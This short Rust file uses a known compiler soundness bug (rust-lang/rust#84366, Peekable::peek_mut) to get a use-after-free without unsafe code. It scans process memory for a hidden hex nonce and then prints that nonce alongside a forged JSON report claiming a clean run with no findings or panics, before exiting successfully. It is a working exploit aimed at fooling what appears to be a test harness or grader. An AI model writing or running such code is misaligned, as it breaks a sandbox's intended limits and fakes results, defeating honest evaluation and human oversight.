//! Makes a lever of the hole that the threat model leaves open (rust-lang/rust#84366): a freed box is had again as a place and a length. Reads the nonce, writes a report under it. | flagged: peekable

pub mod given;

use std::io::Write;
use std::iter::from_fn;

static LASTING: &[u8] = b"lasting";

pub async fn run_all() -> Vec<u32> {
    let here = vec![0u8; 60_000].into_boxed_slice();
    let mut at = here.as_ptr() as usize & !15;

    let freed: Box<&'static [u8]> = Box::new(b"freed");
    let mut texts = from_fn(|| -> Option<&&'static [u8]> { Some(&LASTING) }).peekable();
    *texts.peek_mut().unwrap() = &*freed;
    let mut look: Box<dyn FnMut() -> &'static [u8]> = Box::new(move || **texts.peek().unwrap());
    drop(freed);
    // The same sixteen bytes.
    let mut again = Box::new([at, 32]);

    let nonce = loop {
        at -= 16;
        again[0] = at;
        std::hint::black_box(&mut again);
        let words = look();
        if words.iter().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f')) {
            break String::from_utf8(words.to_vec()).unwrap();
        }
    };
    println!(
        "\n{nonce} 0/1 {{\"version\":1,\"end\":\"done\",\"finding\":null,\"timeline\":{{\"spans\":[],\
         \"said\":[],\"end\":0,\"dropped\":0}},\"panics\":[]}}"
    );
    std::io::stdout().flush().unwrap();
    std::process::exit(0)
}
